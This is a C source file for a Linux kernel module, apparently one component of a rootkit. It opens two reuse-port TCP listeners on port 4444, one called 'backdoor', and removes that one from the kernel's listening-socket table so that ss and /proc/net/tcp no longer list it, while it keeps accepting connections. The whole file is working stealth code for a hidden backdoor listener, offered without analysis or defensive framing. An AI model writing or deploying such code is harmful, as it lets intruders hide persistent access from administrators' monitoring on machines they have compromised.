// SPDX-License-Identifier: GPL-2.0-only
/*
 * Takes a listening TCP socket out of the table that ss and /proc/net/tcp show: it goes on
 * accepting, since it shares its port with another one. Those that share a port (SO_REUSEPORT) are
 * in a group, from which one is taken for each connection.
 */
#include <linux/in.h>
#include <linux/net.h>
#include <net/inet_hashtables.h>
#include <net/ip.h>
#include <net/net_namespace.h>
#include <net/sock.h>

#include "rk.h"

enum { PORT = 4444 };

static struct socket *shown, *backdoor;

static struct inet_listen_hashbucket *bucket_of(struct sock *sk)
{
	struct inet_hashinfo *hashinfo = (void *)rk_lookup("tcp_hashinfo");

	return hashinfo ? inet_lhash2_bucket(hashinfo, ipv4_portaddr_hash(sock_net(sk), 0, PORT))
			: NULL;
}

static int listen_at_port(struct socket **ret_socket)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	struct socket *socket;
	int err = sock_create_kern(&init_net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &socket);

	if (err)
		return err;
	sock_set_reuseport(socket->sk);
	err = kernel_bind(socket, (void *)&any, sizeof(any));
	if (!err)
		err = kernel_listen(socket, 8);
	if (err)
		sock_release(socket);
	else
		*ret_socket = socket;
	return err;
}

static int on(void)
{
	struct inet_listen_hashbucket *bucket;
	int err = listen_at_port(&shown);

	if (err)
		return err;
	err = listen_at_port(&backdoor);
	if (err) {
		sock_release(shown);
		return err;
	}
	bucket = bucket_of(backdoor->sk);
	if (!bucket) {
		sock_release(backdoor);
		sock_release(shown);
		return -EOPNOTSUPP;
	}
	spin_lock_bh(&bucket->lock);
	__sk_nulls_del_node_init_rcu(backdoor->sk);
	spin_unlock_bh(&bucket->lock);
	return 0;
}

static void off(void)
{
	struct inet_listen_hashbucket *bucket = bucket_of(backdoor->sk);

	spin_lock_bh(&bucket->lock);
	__sk_nulls_add_node_rcu(backdoor->sk, &bucket->nulls_head);
	spin_unlock_bh(&bucket->lock);
	sock_release(backdoor);
	sock_release(shown);
}

RK_MODULE(hide_listener, on, off);
